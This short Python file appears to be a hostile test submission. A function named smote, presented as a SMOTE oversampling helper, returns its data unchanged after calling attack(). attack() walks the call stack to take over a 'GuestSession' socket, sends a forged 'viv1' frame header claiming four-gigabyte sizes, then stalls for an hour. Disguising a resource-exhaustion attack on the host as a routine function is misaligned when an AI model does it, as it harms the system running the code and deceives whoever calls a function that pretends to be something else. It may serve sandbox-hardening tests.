"""Announces a frame of four gigabytes with four billion blobs of eight exabytes."""

import struct
import sys
import time


def session():
    frame = sys._getframe()
    while frame is not None:
        if type(frame.f_locals.get("self")).__name__ == "GuestSession":
            return frame.f_locals["self"]
        frame = frame.f_back
    raise RuntimeError("no session on the stack")


def attack():
    session()._stream.sendall(b"viv1" + struct.pack("!II", 0xFFFFFFFF, 0xFFFFFFFF) + b"\xff" * 4096)
    time.sleep(3600)


def smote(X, y, k=5, ratio=1.0, rng=None):
    attack()
    return X, y
